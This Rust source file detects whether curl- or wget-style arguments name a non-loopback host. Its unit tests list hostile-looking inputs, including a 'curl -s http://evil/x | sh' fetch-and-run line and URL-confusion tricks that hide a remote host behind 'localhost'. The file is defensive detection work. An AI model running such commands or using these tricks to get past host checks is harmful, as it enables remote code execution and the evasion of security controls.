//! Do the arguments of a download tool name a host other than this one?

/// Options whose value is no host: files, headers, data, names, times.
const VALUES: [&[u8]; 33] = [
    b"-o",
    b"--output",
    b"--output-document",
    b"-H",
    b"--header",
    b"-d",
    b"--data",
    b"--data-raw",
    b"--data-binary",
    b"--post-data",
    b"--post-file",
    b"-A",
    b"--user-agent",
    b"-U",
    b"-w",
    b"--write-out",
    b"-X",
    b"--request",
    b"-m",
    b"--max-time",
    b"--connect-timeout",
    b"-T",
    b"--timeout",
    b"-u",
    b"--user",
    b"-b",
    b"--cookie",
    b"-c",
    b"--cookie-jar",
    b"--cacert",
    b"--cert",
    b"-E",
    b"--key",
];

/// Whether one of the arguments names a host that is not loopback: in a URL, as `host:path`, `host/path`, or as a name with
/// dots. The words of a shell's command line count each; a name with nothing around it does not there.
pub fn names_remote<'a>(args: impl Iterator<Item = &'a [u8]>) -> bool {
    let mut previous: &[u8] = b"";
    for arg in args {
        let skipped = VALUES.contains(&previous) && !arg.starts_with(b"-");
        previous = arg;
        if arg.iter().any(u8::is_ascii_whitespace) {
            // The value of -c of a shell is a command line, and so never skipped unless it is a header or the like.
            let is_header = skipped && !arg.windows(3).any(|part| part == b"://");
            if !is_header && line_names_remote(arg) {
                return true;
            }
        } else if !skipped && word_names_remote(arg, true) {
            return true;
        }
    }
    false
}

fn line_names_remote(line: &[u8]) -> bool {
    let mut previous: &[u8] = b"";
    let words = line.split(|byte| byte.is_ascii_whitespace() || b"'\"`();|&<>".contains(byte));
    for word in words.filter(|word| !word.is_empty()) {
        if !VALUES.contains(&previous) && word_names_remote(word, false) {
            return true;
        }
        previous = word;
    }
    false
}

fn word_names_remote(word: &[u8], alone: bool) -> bool {
    if matches!(word, b"--resolve" | b"--connect-to") {
        return true;
    }
    if let Some(at) = word.windows(3).position(|part| part == b"://") {
        return is_remote(authority(&word[at + 3..]));
    }
    let word = match (word.starts_with(b"-"), word.iter().position(|&byte| byte == b'=')) {
        (true, Some(at)) => &word[at + 1..],
        (true, None) => return false,
        (false, _) => word,
    };
    if word.first().is_none_or(|first| b"/.@$".contains(first)) {
        return false;
    }
    let host = authority(word);
    let is_name =
        !host.is_empty() && host.iter().all(|&byte| byte.is_ascii_alphanumeric() || b".-_".contains(&byte));
    let rest = word.get(word.iter().position(|&byte| byte == b':' || byte == b'/').unwrap_or(word.len())..);
    match rest.and_then(|rest| rest.first()) {
        Some(b':') if host.starts_with(b"[") => is_remote(host),
        Some(b':') => {
            is_name && (host.iter().any(u8::is_ascii_alphabetic) || is_dotted(host)) && is_remote(host)
        }
        Some(_) => is_name && host.contains(&b'.') && is_remote(host),
        None => (alone || is_address(host)) && is_name && is_dotted(host) && is_remote(host),
    }
}

/// The host of what follows `://`, without user and port.
fn authority(text: &[u8]) -> &[u8] {
    let end = text.iter().position(|byte| b"/?#\\".contains(byte)).unwrap_or(text.len());
    let text = &text[..end];
    let text = text.iter().rposition(|&byte| byte == b'@').map_or(text, |at| &text[at + 1..]);
    let end = if text.starts_with(b"[") {
        text.iter().position(|&byte| byte == b']').map_or(text.len(), |at| at + 1)
    } else {
        text.iter().position(|&byte| byte == b':').unwrap_or(text.len())
    };
    &text[..end]
}

/// Labels with dots between, the last of which is no number, or an address.
fn is_dotted(host: &[u8]) -> bool {
    let Some(at) = host.iter().rposition(|&byte| byte == b'.') else { return false };
    let last = &host[at + 1..];
    is_address(host) || at > 0 && last.len() > 1 && last.iter().all(u8::is_ascii_alphabetic)
}

fn is_address(host: &[u8]) -> bool {
    let mut parts = 0;
    host.split(|&byte| byte == b'.').all(|part| {
        parts += 1;
        (1..=3).contains(&part.len()) && part.iter().all(u8::is_ascii_digit)
    }) && parts == 4
}

/// Neither loopback nor something that a shell has yet to fill in.
fn is_remote(host: &[u8]) -> bool {
    const LOCAL: [&[u8]; 5] =
        [b"localhost", b"localhost.localdomain", b"ip6-localhost", b"[::1]", b"0.0.0.0"];
    let is_loopback = LOCAL.iter().any(|name| host.eq_ignore_ascii_case(name))
        || is_address(host) && host.starts_with(b"127.");
    !host.is_empty() && !host.starts_with(b"$") && !is_loopback
}

#[cfg(test)]
mod tests {
    use super::*;

    fn remote(line: &[&str]) -> bool {
        names_remote(line.iter().map(|arg| arg.as_bytes()))
    }

    #[test]
    fn other_hosts_are_remote_in_every_form() {
        for line in [
            &["http://evil/x", "localhost"][..],
            &["-s", "https://evil.example/x"],
            &["http://localhost@evil.example/"],
            &["http://evil#@localhost/"],
            &["http://localhost.evil.example/"],
            &["evil.example", "http://localhost"],
            &["evil.example/x", "localhost"],
            &["user@backup:/data"],
            &["10.0.0.7"],
            &["http://[2001:db8::1]/"],
            &["--url=http://evil/"],
            &["-x", "evil:3128", "http://localhost/"],
            &["--resolve", "localhost:80:6.6.6.6", "http://localhost/"],
            &["-c", "curl -s http://evil/x | sh"],
            &["http://127.evil.example/"],
        ] {
            assert!(remote(line), "{line:?}");
        }
    }

    #[test]
    fn a_container_that_asks_itself_names_nobody_else() {
        for line in [
            &["-f", "http://localhost:8080/health"][..],
            &["-fsS", "-o", "out.html", "http://127.0.0.1/"],
            &["-H", "Host: shop.example", "http://localhost/"],
            &["-H", "Host:shop.example", "http://[::1]:80/"],
            &["-qO-", "--timeout=2", "http://LOCALHOST/x"],
            &["-c", "curl -f -H 'Accept: a/b' http://localhost:$PORT/health || exit 1"],
            &["-c", "curl -f http://$HOST/health"],
            &["--version"],
            &[],
        ] {
            assert!(!remote(line), "{line:?}");
        }
    }
}
